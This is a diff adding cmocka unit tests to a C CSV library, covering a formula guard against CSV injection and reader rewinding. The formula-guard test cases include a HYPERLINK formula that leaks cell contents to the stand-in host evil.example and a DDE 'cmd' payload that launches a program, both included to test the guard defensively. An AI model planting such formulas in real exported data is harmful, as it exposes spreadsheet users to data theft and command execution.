@@ -1,6 +1,6 @@
 /* CSV reader and writer (domain/csv.c): BOM, GB18030, quoting, line breaks,
- * ragged rows, trailing lines, malformed input with its row, and a writer
- * whose output reads back to the same cells. */
+ * ragged rows, trailing lines, malformed input with its row, a writer
+ * whose output reads back to the same cells, and the formula guard. */
 #include <iconv.h>
 #include <setjmp.h>
 #include <stdarg.h>
@@ -275,6 +275,97 @@ static void test_writer_round_trip(void **state) {
     yq_csv_close(NULL);
 }
 
+/* CSV injection (OWASP): text a spreadsheet would run as a formula gets a
+ * leading apostrophe; plain numbers, negative ones included, do not; and
+ * yq_csv_unguard gives back exactly the text that was written. */
+static void test_formula_guard(void **state) {
+    (void)state;
+    static const struct {
+        const char *cell, *written;
+    } cases[] = {
+        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""},
+        {"+1+cmd|'/C calc'!A0", "'+1+cmd|'/C calc'!A0"},
+        {"@SUM(1+1)", "'@SUM(1+1)"},
+        {"-2+3", "'-2+3"},
+        {"-", "'-"},
+        {"\t=1+1", "\"'\t=1+1\""},
+        {"'=1+1", "''=1+1"}, /* an apostrophe of its own: one more, so it reads back */
+        {"''@x", "'''@x"},
+        {"-12.50", "-12.50"}, /* amounts, hours, counts and rates stay numbers */
+        {"-3", "-3"},
+        {"+86", "+86"},
+        {"-0.25%", "-0.25%"},
+        {"12.5", "12.5"},
+        {"'-5", "'-5"}, /* not guarded: "-5" is a number */
+        {"'plain", "'plain"},
+        {"a=b", "a=b"},
+        {"", ""},
+        {"显微镜", "显微镜"},
+    };
+    const size_t n = sizeof cases / sizeof cases[0];
+    for (size_t i = 0; i < n; i++) {
+        yq_csv_writer_t *w = yq_csv_writer_create(0);
+        yq_csv_cell(w, "x");
+        yq_csv_cell(w, cases[i].cell);
+        yq_csv_end_row(w);
+        char want[256];
+        snprintf(want, sizeof want, "x,%s\r\n", cases[i].written);
+        size_t len;
+        const char *out = yq_csv_writer_data(w, &len);
+        assert_string_equal(out, want);
+
+        char why[200];
+        yq_csv_t *c;
+        assert_int_equal(yq_csv_open(out, len, "utf-8", 0, &c, why, sizeof why), 0);
+        char **got;
+        size_t ncells;
+        assert_int_equal(yq_csv_next(c, &got, &ncells), 1);
+        assert_int_equal(ncells, 2);
+        assert_string_equal(yq_csv_unguard(got[1]), cases[i].cell);
+        yq_csv_close(c);
+        yq_csv_writer_free(w);
+    }
+    assert_int_equal(yq_csv_formula_like(NULL), 0);
+    assert_int_equal(yq_csv_formula_like("=1"), 1);
+    assert_int_equal(yq_csv_formula_like("-1.5"), 0);
+    assert_int_equal(yq_csv_formula_like("-1.5.2"), 1);
+    assert_int_equal(yq_csv_formula_like("-1e5"), 1);
+    /* A leading CR is guarded too (the reader turns a CR inside quotes into LF,
+     * so that cell cannot read back byte for byte in any case). */
+    assert_int_equal(yq_csv_formula_like("\r=1+1"), 1);
+    /* A hand-written file: an apostrophe before formula text comes off, any other stays. */
+    assert_string_equal(yq_csv_unguard("'=A1"), "=A1");
+    assert_string_equal(yq_csv_unguard("'\tx"), "\tx");
+    assert_string_equal(yq_csv_unguard("'\rx"), "\rx");
+    assert_string_equal(yq_csv_unguard("'x"), "'x");
+    assert_string_equal(yq_csv_unguard("'"), "'");
+    assert_string_equal(yq_csv_unguard(""), "");
+}
+
+/* Rewinding reads the same records again, also after an error. */
+static void test_rewind(void **state) {
+    (void)state;
+    static const char body[] = "a,b\r\n1,2\r\n\"open\r\n";
+    char why[200];
+    yq_csv_t *c;
+    assert_int_equal(yq_csv_open(body, sizeof body - 1, "utf-8", 0, &c, why, sizeof why), 0);
+    for (int pass = 0; pass < 2; pass++) {
+        char **cells;
+        size_t n;
+        assert_int_equal(yq_csv_next(c, &cells, &n), 1);
+        assert_string_equal(cells[0], "a");
+        assert_int_equal(yq_csv_next(c, &cells, &n), 1);
+        assert_string_equal(cells[1], "2");
+        assert_int_equal(yq_csv_record(c), 1);
+        assert_int_equal(yq_csv_next(c, &cells, &n), -1);
+        assert_int_equal(yq_csv_error_row(c), 2);
+        yq_csv_rewind(c);
+        assert_string_equal(yq_csv_error(c), "");
+    }
+    yq_csv_close(c);
+}
+
 int main(void) {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_plain_and_line_endings),
@@ -285,6 +376,8 @@ int main(void) {
         cmocka_unit_test(test_invalid_bytes_name_the_row),
         cmocka_unit_test(test_malformed_quoting),
         cmocka_unit_test(test_writer_round_trip),
+        cmocka_unit_test(test_formula_guard),
+        cmocka_unit_test(test_rewind),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
